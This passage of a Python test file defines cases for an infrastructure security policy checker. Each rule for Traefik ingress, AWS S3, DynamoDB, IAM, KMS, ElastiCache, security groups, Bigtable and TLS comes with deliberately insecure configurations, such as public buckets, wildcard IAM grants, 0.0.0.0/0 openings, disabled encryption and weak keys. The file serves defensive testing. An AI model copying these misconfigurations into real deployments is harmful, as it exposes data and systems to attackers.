        bad=on("files", ("type",), "kubernetes:traefik.io/v1alpha1:IngressRouteUDP"),
        absent=on("files", ()),
        safe="there is no such object",
        more=tuple(
            on("files", ("type",), f"kubernetes:{token}")
            for token in ("gateway.networking.k8s.io/v1:HTTPRoute", "traefik.io/v1alpha1:TraefikService")
        ),
    ),
    "ingress-hosts": Case(
        bad=route("PathPrefix(`/`) && Method(`GET`)"),
        absent=on("route", (*SPEC, "routes", 0, "match")),
        also=frozenset({"tls-names", "ingress-scope"}),
        more=tuple(
            route(match)
            for match in (
                "HostRegexp(`.*`) && Method(`GET`) && Path(`/shop`)",
                "Host(`web.shop.test`) && Method(`GET`) && Path(`/a`) || Method(`GET`) && Path(`/a`)",
                "!Host(`a.shop.test`) && Method(`GET`) && Path(`/a`)",
                "Host(`*`) && Method(`GET`) && Path(`/a`)",
                "Host(`web.shop.test`) && (Method(`GET`)",
            )
        ),
    ),
    "ingress-backends": Case(
        bad=on("route", (*SPEC, "routes", 0, "services", 0, "name"), "cache"),
        absent=on("route", (*SPEC, "routes", 0, "services", 0, "port")),
        also=frozenset({"network-proxy", "emulator-exposed"}),
        more=(
            on("route", (*SPEC, "routes", 0, "services", 0, "name"), "gone"),
            on("route", (*SPEC, "routes", 0, "services", 0, "port"), 9999),
            on("route", (*SPEC, "routes", 0, "services", 0, "kind"), "TraefikService"),
            on("route", (*SPEC, "routes", 0, "services")),
        ),
    ),
    "ingress-scope": Case(
        bad=route("Host(`web.shop.test`) && Method(`GET`) && PathPrefix(`/`)"),
        absent=route("Host(`web.shop.test`)"),
        more=(
            *(
                route(f"Host(`web.shop.test`) && {rest}")
                for rest in (
                    "Path(`/shop`)",
                    "Method(`GET`)",
                    "Method(`DELETE`) && Path(`/shop`)",
                    "Method(`GET`) && PathRegexp(`^/shop/.*$`)",
                    "Method(`GET`) && PathRegexp(`/shop`)",
                    "Method(`GET`) && PathRegexp(`^/shop|$`)",
                    "Method(`GET`) && !Path(`/shop`)",
                    "(Method(`GET`) && Path(`/shop`) || Method(`POST`))",
                )
            ),
            on("route", (*SPEC, "routes", 0, "priority"), 1000),
        ),
    ),
    "ingress-limits": Case(
        bad=on("rate", (*SPEC, "rateLimit", "average"), 1_000_000_000),
        absent=on("route", (*SPEC, "routes", 0, "middlewares", 0)),
        more=(
            on("rate", (*SPEC, "rateLimit", "average")),
            on("rate", (*SPEC, "rateLimit", "average"), 0),
            on("rate", (*SPEC, "rateLimit", "period"), "1us"),
            on("rate", (*SPEC, "rateLimit", "burst"), 1_000_000),
            on("in-flight", (*SPEC, "inFlightReq", "amount"), 0),
            on("in-flight", (*SPEC, "inFlightReq", "amount"), 1_000_000),
            on("limits", (*SPEC, "chain", "middlewares", 1, "name"), "gone"),
            on("rate", ()),
        ),
    ),
    "ingress-headers": Case(
        bad=on("headers", (*SPEC, "headers", "customRequestHeaders", "Forwarded"), "for=a"),
        absent=on("headers", (*SPEC, "headers", "customRequestHeaders", "Forwarded")),
        also=frozenset({"ingress-trust"}),
        more=(
            on("route", (*SPEC, "routes", 0, "middlewares", 1)),
            on("headers", (*SPEC, "headers", "stsSeconds"), 0),
            on("headers", (*SPEC, "headers", "stsSeconds")),
            on("headers", (*SPEC, "headers", "contentTypeNosniff")),
            on("headers", (*SPEC, "headers", "customRequestHeaders", "X-Proxied-Https")),
        ),
    ),
    "ingress-trust": Case(
        bad=on("rate", (*SPEC, "rateLimit", "sourceCriterion"), {"ipStrategy": {"depth": 1}}),
        absent=on("rate", (*SPEC, "rateLimit", "burst")),
        safe="the address of the connection counts",
        more=(
            on("rate", (*SPEC, "rateLimit", "sourceCriterion"), {"requestHeaderName": "X-Key"}),
            on("rate", (*SPEC, "rateLimit", "sourceCriterion"), {"ipStrategy": {"excludedIPs": ["10.0.0.0/8"]}}),
            on("https", (*SPEC, "ipAllowList"), {"sourceRange": ["0.0.0.0/0"]}),
            on("https", (*SPEC, "ipAllowList"), {"sourceRange": ["10.0.0.1"], "ipStrategy": {"depth": 1}}),
            on("https", (*SPEC, "forwardAuth"), {"address": "http://web.shop.svc", "trustForwardHeader": True}),
            on("https", (*SPEC, "forwardAuth"), {"address": "https://auth.test"}),
            on("https", (*SPEC, "plugin"), {"a": {}}),
            on("https", (*SPEC, "redirectRegex"), {"regex": ".*", "replacement": "https://a.test/"}),
            on("headers", (*SPEC, "headers", "customRequestHeaders", "X-Forwarded-For"), "203.0.113.1"),
            on("headers", (*SPEC, "headers", "accessControlAllowOriginList"), ["*"]),
            on("route", (*SPEC, "routes", 0, "services", 0, "serversTransport"), "gone"),
        ),
    ),
    # --- emulators
    "emulator-exposed": Case(
        also=frozenset({"ingress-backends", "network-agreement", "network-proxy"}),
        bad=on(
            "route",
            (*SPEC, "routes", 0, "services", 0),
            {"name": "cloud", "namespace": "shop-emulators", "port": 4566},
        ),
        absent=on("route", (*SPEC, "routes", 0, "services", 0, "name")),
        safe="a route without a service leads to nowhere",
        more=(
            on(
                "cloud-policy",
                (*SPEC, "ingress", 0, "from", 0, "namespaceSelector", "matchLabels", "kubernetes.io/metadata.name"),
                "kube-system",
            ),
        ),
    ),
    "emulator-in-cloud": Case(
        bad=aws("web", (*C, "image"), "docker.io/localstack/localstack:4.14.0"),
        absent=aws("table", (*P, "name")),
        safe="the type of a resource says that it is the cloud's",
    ),
    # --- DynamoDB
    "dynamodb-backup": Case(
        bad=aws("table", (*P, "pointInTimeRecovery", "enabled"), False),
        absent=aws("table", (*P, "pointInTimeRecovery")),
        more=(aws("table", (*P, "pointInTimeRecovery", "recoveryPeriodInDays"), 1),),
    ),
    "dynamodb-deletion-protection": Case(
        bad=aws("table", (*P, "deletionProtectionEnabled"), False),
        absent=aws("table", (*P, "deletionProtectionEnabled")),
    ),
    "dynamodb-encryption": Case(
        bad=aws("table", (*P, "serverSideEncryption", "enabled"), False),
        absent=aws("table", (*P, "serverSideEncryption")),
    ),
    "dynamodb-capacity": Case(
        bad=aws("table", (*P, "billingMode"), "PROVISIONED"), absent=aws("table", (*P, "billingMode"))
    ),
    "dynamodb-expiry": Case(
        bad=aws("table", (*P, "ttl"), {"attributeName": "D", "enabled": True}),
        absent=aws("table", (*P, "name")),
        safe="nothing expires",
        more=(aws("table", (*P, "ttl"), {"enabled": True}),),
    ),
    # --- S3
    "s3-public-access": Case(
        bad=aws("bucket-access", (*P, "blockPublicPolicy"), False),
        absent=aws("bucket-access", (*P, "ignorePublicAcls")),
        more=(
            aws("bucket-access", ()),
            aws("bucket", (*P, "acl"), "public-read"),
            aws("bucket", (*P, "website"), {"indexDocument": "index.html"}),
            aws("bucket", (*P, "corsRules"), [{"allowedOrigins": ["*"], "allowedMethods": ["GET"]}]),
            aws("bucket", (*P, "grants"), [{"uri": "http://acs.amazonaws.com/groups/global/AllUsers"}]),
        ),
    ),
    "s3-tls-only": Case(
        bad=aws("bucket-policy", (*P, "policy"), document({**TLS_ONLY, "Effect": "Allow"})),
        absent=aws("bucket-policy", (*P, "policy")),
        more=(
            aws("bucket-policy", ()),
            aws("bucket-policy", (*P, "policy"), document({**TLS_ONLY, "Resource": "arn:aws:s3:::shop-config/*"})),
            aws("bucket-policy", (*P, "policy"), document({**TLS_ONLY, "Condition": {}})),
            aws("bucket-policy", (*P, "policy"), document(TLS_ONLY)),
            aws("bucket-policy", (*P, "policy"), document(TLS_12)),
            aws(
                "bucket-policy",
                (*P, "policy"),
                document(
                    {**TLS_ONLY, "Condition": {**TLS_ONLY["Condition"], "StringEquals": {"aws:userid": "nobody"}}},
                    TLS_12,
                ),
            ),
        ),
        also=frozenset({"s3-grants"}),
    ),
    "s3-grants": Case(
        bad=aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing({"AWS": "999999999999"}))),
        absent=aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing(None))),
        more=(
            aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing("*"))),
            aws("bucket-policy", (*P, "policy"), document(TLS_ONLY, TLS_12, allowing({"AWS": "*"}))),
            aws(
                "bucket-policy",
                (*P, "policy"),
                document(TLS_ONLY, TLS_12, allowing({"Service": "cloudfront.amazonaws.com"})),
            ),
        ),
    ),
    "s3-expiry": Case(
        bad=aws("bucket-lifecycle", (*P, "rules", 0, "expiration"), {"days": 1}),
        absent=aws("bucket-lifecycle", (*P, "rules", 0, "filter"), {}),
        safe="nothing is deleted",
        more=(
            aws("bucket-lifecycle", (*P, "rules", 0, "expiration"), {"date": "2027-01-01T00:00:00Z"}),
            aws("bucket-lifecycle", (*P, "rules", 0, "noncurrentVersionExpiration"), {"noncurrentDays": 1}),
            aws("bucket-lifecycle", (*P, "rules", 0, "transitions"), [{"days": 1, "storageClass": "GLACIER"}]),
        ),
    ),
    "s3-encryption": Case(
        bad=aws("bucket-encryption", (*P, "rules"), []),
        absent=aws("bucket-encryption", ()),
    ),
    "s3-versioning": Case(
        bad=aws("bucket-versioning", (*P, "versioningConfiguration", "status"), "Suspended"),
        absent=aws("bucket-versioning", ()),
    ),
    "s3-lifecycle": Case(
        bad=aws("bucket-lifecycle", (*P, "rules", 0, "status"), "Disabled"),
        absent=aws("bucket-lifecycle", (*P, "rules", 0, "abortIncompleteMultipartUpload")),
        more=(aws("bucket-lifecycle", ()), aws("bucket-lifecycle", (*P, "rules", 0, "filter"), {"prefix": "a/"})),
    ),
    "s3-ownership": Case(
        bad=aws("bucket-ownership", (*P, "rule", "objectOwnership"), "ObjectWriter"),
        absent=aws("bucket-ownership", (*P, "rule")),
        more=(aws("bucket-ownership", ()),),
    ),
    # --- IAM
    "iam-wildcards": Case(
        bad=aws("grant", (*P, "policy"), document({**GRANT, "Action": "dynamodb:*"})),
        absent=aws("grant", (*P, "policy")),
        more=(
            aws("grant", (*P, "policy"), document({**GRANT, "Resource": "*"})),
            aws("grant", (*P, "policy"), document({**GRANT, "Resource": "arn:aws:dynamodb:::table/*"})),
            aws(
                "grant", (*P, "policy"), document({"Effect": "Allow", "NotAction": "iam:*", "Resource": "arn:a:b:::c"})
            ),
            aws("grant", (*P, "policy"), document({"Effect": "Allow", "Action": "s3:GetObject"})),
            aws("grant", (*P, "policy"), document({"Effect": "Allow", "Resource": "arn:aws:s3:::a/*"})),
            aws("grant", (*P, "policy"), "no JSON"),
            *(
                aws("grant", (*P, "policy"), document({**GRANT, "Action": action}))
                for action in ("dynamodb:Get*", "dynamodb:?etItem", "d*:GetItem")
            ),
            *(
                aws("grant", (*P, "policy"), document({**GRANT, "Resource": arn}))
                for arn in (
                    "arn:aws:dynamodb:eu-west-1:123456789012:table/acc*",
                    "arn:aws:dynamodb:*:123456789012:table/accounts",
                    "arn:aws:dynamodb:eu-west-1:*:table/accounts",
                    "arn:aws:s3:::shop-*",
                )
            ),
            aws("role", (*P, "managedPolicyArns"), ["arn:aws:iam::aws:policy/ReadOnlyAccess"]),
        ),
        also=frozenset({"iam-data-only"}),
    ),
    "iam-data-only": Case(
        bad=aws("grant", (*P, "policy"), document({**GRANT, "Action": "iam:CreateAccessKey"})),
        absent=aws("table", (*P, "name")),
        safe="a policy that is not there allows nothing",
        more=(
            *(
                aws("grant", (*P, "policy"), document({**GRANT, "Action": action}))
                for action in ("iam:PassRole", "sts:AssumeRole", "dynamodb:DeleteTable", "kms:PutKeyPolicy")
            ),
            aws(
                "grant",
                (*P, "policy"),
                document({**GRANT, "Resource": "arn:aws:dynamodb:eu-west-1:999999999999:table/accounts"}),
            ),
        ),
    ),
    "iam-trust": Case(
        bad=aws("role", (*P, "assumeRolePolicy"), document({**TRUST, "Principal": "*"})),
        absent=aws("role", (*P, "assumeRolePolicy")),
        more=(
            *(aws("role", (*P, "assumeRolePolicy"), document({**TRUST, **change})) for change in UNTRUSTED),
            aws("association", (*P, "serviceAccount"), "cache"),
        ),
    ),
    "iam-access-keys": Case(
        bad=aws("access-key", (*P, "user"), "somebody"),
        absent=aws("access-key", (*P, "createDate")),
        safe="a key that is being made has no date yet",
        more=(
            aws("access-key", (*P, "createDate"), "2025-01-01T00:00:00Z"),
            aws("access-key", (*P, "createDate"), "long ago"),
        ),
    ),
    # --- keys, caches and tags of AWS
    "kms-rotation": Case(
        bad=aws("kms", (*P, "enableKeyRotation"), False), absent=aws("kms", (*P, "enableKeyRotation"))
    ),
    "kms-policy": Case(
        bad=aws("kms", (*P, "policy"), document({"Effect": "Allow", "Principal": "*", "Action": "kms:*"})),
        absent=aws("kms", (*P, "deletionWindowInDays")),
        safe="AWS gives the key to its account",
        more=(
            aws("kms", (*P, "bypassPolicyLockoutSafetyCheck"), True),
            aws("kms", (*P, "policy"), "{}"),
            aws("kms", (*P, "policy"), document({"Effect": "Allow", "Principal": {"AWS": "999999999999"}})),
        ),
    ),
    "kms-available": Case(
        bad=aws("kms", (*P, "isEnabled"), False),
        absent=aws("kms", (*P, "deletionWindowInDays")),
        safe="AWS waits 30 days",
        more=(
            aws("kms", (*P, "deletionWindowInDays"), 7),
            aws("kms", (*P, "keyUsage"), "SIGN_VERIFY"),
        ),
    ),
    "kms-account": Case(
        bad=aws("table", (*P, "serverSideEncryption", "kmsKeyArn"), "arn:aws:kms:eu-west-1:999999999999:key/1"),
        absent=aws("table", (*P, "serverSideEncryption", "kmsKeyArn")),
        safe="AWS takes a key of the account",
        more=(aws("redis", (*P, "kmsKeyId"), "arn:aws:kms:eu-west-1:999999999999:key/1"),),
    ),
    "elasticache-failover": Case(
        bad=aws("redis", (*P, "multiAzEnabled"), False),
        absent=aws("redis", (*P, "multiAzEnabled")),
        more=(
            aws("redis", (*P, "automaticFailoverEnabled")),
            aws("redis", (*P, "replicasPerNodeGroup"), 0),
            aws("redis", (*P, "replicasPerNodeGroup")),
        ),
    ),
    "elasticache-eviction": Case(
        bad=aws("parameters", (*P, "parameters", 1, "value"), "allkeys-lru"),
        absent=aws("parameters", (*P, "parameters", 1)),
        more=(
            aws("parameters", (*P, "parameters", 1, "value"), "volatile-lru"),
            aws("redis", (*P, "parameterGroupName"), "default.valkey8"),
            aws("redis", (*P, "parameterGroupName")),
        ),
    ),
    "security-group-wide": Case(
        bad=aws("opening", (*P, "cidrIpv4"), "0.0.0.0/0"),
        absent=aws("opening", (*P, "ipProtocol")),
        more=(
            aws("opening", (*P, "cidrIpv4"), "10.0.0.0/8"),
            aws("opening", (*P, "cidrIpv4"), "8.8.8.0/24"),
            aws("opening", (*P, "cidrIpv6"), "::/0"),
            aws("opening", (*P, "ipProtocol"), "-1"),
            aws("opening", (*P, "fromPort"), 0),
            aws("opening", (*P, "toPort"), 65535),
            aws("opening", (*P, "toPort")),
        ),
    ),
    "cloud-data-protected": Case(
        bad=aws("table", ("protect",), False),
        absent=aws("table", ("protect",)),
        more=(
            aws("bucket", ("protect",), False),
            aws("kms", ("protect",), False),
            aws("redis", ("protect",), False),
            aws("instance", ("protect",), False),
            aws("groups", ("protect",), False),
            aws("bucket", (*P, "forceDestroy"), True),
        ),
    ),
    "provider-options": Case(
        bad=aws("provider", (*P, "skipCredentialsValidation"), "true"),
        absent=aws("provider", (*P, "allowedAccountIds")),
        more=(
            aws("provider", (*P, "insecure"), "true"),
            aws("provider", (*P, "endpoints"), '[{"s3": "http://a.test"}]'),
            aws("provider", (*P, "secretKey"), "horse"),
            aws("provider", (*P, "bigtableCustomEndpoint"), "https://a.test"),
        ),
    ),
    "elasticache-transit": Case(
        bad=aws("redis", (*P, "transitEncryptionEnabled"), False),
        absent=aws("redis", (*P, "transitEncryptionEnabled")),
        more=(aws("redis", (*P, "transitEncryptionMode"), "preferred"),),
    ),
    "elasticache-rest": Case(
        bad=aws("redis", (*P, "atRestEncryptionEnabled"), False),
        absent=aws("redis", (*P, "atRestEncryptionEnabled")),
    ),
    "elasticache-authentication": Case(
        bad=aws("redis", (*P, "authToken"), ""),
        absent=aws("redis", (*P, "authToken")),
        more=(
            aws("redis", ("type",), "aws:elasticache/serverlessCache:ServerlessCache"),
            aws("redis", (*P, "authToken"), "password"),
            aws("redis", (*P, "authToken"), "a" * 40),
        ),
    ),
    "aws-tags": Case(bad=aws("kms", (*P, "tags"), {"project": "shop"}), absent=aws("kms", (*P, "tags"))),
    # --- Bigtable
    "bigtable-deletion-protection": Case(
        bad=aws("groups", (*P, "deletionProtection"), "UNPROTECTED"),
        absent=aws("groups", (*P, "deletionProtection")),
        more=(
            aws("instance", (*P, "deletionProtection"), False),
            aws("instance", (*P, "deletionProtection")),
            aws("instance", (*P, "forceDestroy"), True),
        ),
    ),
    "bigtable-backup": Case(
        bad=aws("groups", (*P, "automatedBackupPolicy", "retentionPeriod"), "0"),
        absent=aws("groups", (*P, "automatedBackupPolicy")),
    ),
    "bigtable-access": Case(
        bad=aws("member", (*P, "member"), "allUsers"),
        absent=aws("member", (*P, "member")),
        more=(
            aws("member", (*P, "role"), "roles/bigtable.admin"),
            aws("member", (*P, "role")),
            aws("member", (*P, "member"), "allAuthenticatedUsers"),
            aws("member", (*P, "member"), "user:somebody@example.org"),
            aws(
                "member",
                (*P, "member"),
                "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/shop/*",
            ),
            aws("member", ("type",), "gcp:projects/iAMMember:IAMMember"),
        ),
    ),
    # --- certificates
    "tls-key": Case(
        bad=on("key", (*P, "ecdsaCurve"), "P224"),
        absent=on("key", (*P, "ecdsaCurve")),
        more=(
            on("rsa", (*P, "rsaBits"), 1024),
            on("key", (*P, "algorithm"), "DSA"),
            on("key", (*P, "algorithm")),
        ),
    ),
    "tls-authority": Case(
        bad=on("authority", (*P, "maxPathLength"), 3),
        absent=on("authority", (*P, "maxPathLength")),
        more=(
            on("authority", (*P, "isCaCertificate")),
            on("authority", (*P, "allowedUses")),
            on("authority", (*P, "allowedUses"), ["cert_signing", "server_auth"]),
            on("authority", (*P, "setSubjectKeyId")),
            on("authority", (*P, "validityPeriodHours")),
            on("authority", (*P, "validityPeriodHours"), 24 * 365 * 30),
        ),
    ),
    "tls-leaf": Case(
        bad=on("leaf", (*P, "validityPeriodHours"), 87600),
        absent=on("leaf", (*P, "validityPeriodHours")),
        more=(on("leaf", (*P, "allowedUses")), on("leaf", (*P, "allowedUses"), ["any_extended", "server_auth"])),
    ),
    "tls-names": Case(
        also=frozenset({"ingress-hosts", "ingress-scope"}),
        bad=on("request", (*P, "dnsNames"), ["*.other.test"]),
        absent=on("request", (*P, "dnsNames")),
        more=(
            on("route", (*SPEC, "routes", 0, "match"), "Host(`web.shop.test`, `a.b.shop.test`)"),
            on("route", (*SPEC, "routes", 0, "match"), "PathPrefix(`/`)"),
        ),
    ),
    # --- random secrets
    "random-entropy": Case(
        bad=on("password", (*P, "length"), 42),
        absent=on("password", (*P, "length")),
        more=(on("password", (*P, "upper"), False),),
    ),
    "random-protected": Case(
        bad=on("password", ("protect",), False),
        absent=on("password", ("protect",)),
        more=(on("authority", ("protect",), False),),
    ),
}
